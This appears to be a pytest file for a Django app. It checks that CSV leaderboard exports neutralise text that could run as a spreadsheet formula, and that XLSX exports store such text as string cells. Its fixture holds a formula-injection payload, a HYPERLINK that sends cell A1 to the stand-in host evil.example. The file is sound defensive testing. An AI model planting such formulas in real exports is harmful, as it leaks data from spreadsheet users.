"""Leaderboard exports never carry a live formula, whatever a district or reason says."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from accounts.roles import Role
from districts.models import District
from tests.builders import build_published_race, user_with_role

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.fixture
def evil_board(client):
    published = build_published_race(districts=3, periods=1)
    District.objects.filter(pk=published.districts[0].pk).update(name=EVIL, name_en=EVIL)
    District.objects.filter(pk=published.districts[1].pk).update(name_en="+1 district")
    District.objects.filter(pk=published.districts[2].pk).update(name_en="@SUM(A1)")
    client.force_login(user_with_role(Role.VIEWER))
    return published


def _url(published, file_format):
    return reverse(
        "leaderboard-export", args=[published.race.code, published.latest_period.code, file_format]
    )


def test_csv_text_that_could_run_as_a_formula_is_neutralised(client, evil_board):
    content = client.get(_url(evil_board, "csv")).content.decode("utf-8-sig")
    names = {row[3] for row in list(csv.reader(io.StringIO(content)))[1:]}

    assert names == {"'" + EVIL, "'+1 district", "'@SUM(A1)"}


def test_xlsx_text_is_a_string_cell_never_a_formula(client, evil_board):
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(_url(evil_board, "xlsx")).content))
    sheet = workbook.active
    cells = [row[3] for row in sheet.iter_rows(min_row=3)]

    assert {cell.value for cell in cells} == {EVIL, "+1 district", "@SUM(A1)"}
    assert {cell.data_type for cell in cells} == {"s"}
    # Scores stay numbers a spreadsheet can sum.
    assert all(isinstance(row[5].value, int | float) for row in sheet.iter_rows(min_row=3))
